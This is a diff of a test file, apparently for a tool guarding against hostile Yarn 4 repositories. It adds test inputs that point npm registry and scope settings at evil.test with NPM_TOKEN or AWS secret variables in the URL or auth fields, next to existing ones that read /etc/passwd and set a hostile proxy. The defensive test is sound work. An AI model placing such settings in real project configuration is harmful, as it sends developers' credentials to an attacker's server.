@@ -465,6 +465,9 @@ describe('a hostile repository with Yarn 4', () => {
     ['httpsKeyFilePath', { httpsKeyFilePath: '/etc/passwd' }],
     ['networkSettings', { networkSettings: { '**': { httpProxy: 'http://evil.test' } } }],
     ['npmRegistryServer', { npmRegistryServer: 'https://${AWS_SECRET_ACCESS_KEY}.evil.test' }],
+    ['npmRegistryServer', { npmRegistryServer: 'https://evil.test/${NPM_TOKEN}' }],
+    ['npmScopes', { npmScopes: { corp: { npmRegistryServer: 'https://evil.test', npmAuthToken: '${NPM_TOKEN}' } } }],
+    ['npmRegistries', { npmRegistries: { '//evil.test': { npmAuthIdent: '${NPM_TOKEN}' } } }],
   ];
   for (const [setting, more] of between) {
     it(`does not stand between us and every registry by ${JSON.stringify(more)}`, async () => {
